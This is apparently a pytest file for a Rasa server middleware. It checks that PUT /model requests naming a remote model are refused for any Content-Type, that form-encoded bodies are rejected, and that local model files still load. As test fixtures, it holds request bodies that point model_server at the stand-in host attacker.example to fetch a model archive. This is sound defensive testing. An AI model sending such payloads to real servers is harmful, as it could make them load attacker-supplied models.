"""PUT /model may not name a remote model, whatever the Content-Type says
(issue 16, finding 6): Rasa reads the body as JSON regardless of it."""
from __future__ import annotations

import asyncio
import json
from types import SimpleNamespace

import pytest

from bot.rasa_server.http_limits import Limits, rasa_server_middleware

REMOTE = json.dumps({"model_server": {"url": "http://attacker.example/model.tar.gz"}}).encode()
STORAGE = json.dumps({"model_file": "m.tar.gz", "remote_storage": "aws"}).encode()


def put_model(body: bytes, content_type=None, path="/model"):
    headers = {"content-length": str(len(body))}
    if content_type is not None:
        headers["content-type"] = content_type
    request = SimpleNamespace(method="PUT", path=path, body=body, headers=headers)
    answer = asyncio.run(rasa_server_middleware(Limits())(request))
    return answer, request


@pytest.mark.parametrize("content_type", [None, "", "text/plain", "text/plain; charset=utf-8",
                                          "application/octet-stream", "application/json", "APPLICATION/JSON"])
@pytest.mark.parametrize("body", [REMOTE, STORAGE], ids=["model_server", "remote_storage"])
@pytest.mark.parametrize("path", ["/model", "/model/"])
def test_a_remote_model_is_refused_for_any_content_type(content_type, body, path):
    answer, _ = put_model(body, content_type, path)
    assert answer is not None and answer.status == 403
    assert json.loads(answer.body)["error"] == "remote_model_refused"


def test_a_form_encoded_body_is_refused_not_passed_on():
    answer, _ = put_model(b"model_server=http%3A%2F%2Fattacker.example%2Fm.tar.gz",
                          "application/x-www-form-urlencoded")
    assert answer is not None and answer.status == 400


def test_a_local_model_file_still_loads_and_rasa_reads_our_parse():
    body = json.dumps({"model_file": "var/candidates/3/model.tar.gz"}).encode()
    answer, request = put_model(body, "text/plain")
    assert answer is None
    assert request.parsed_json == {"model_file": "var/candidates/3/model.tar.gz"}
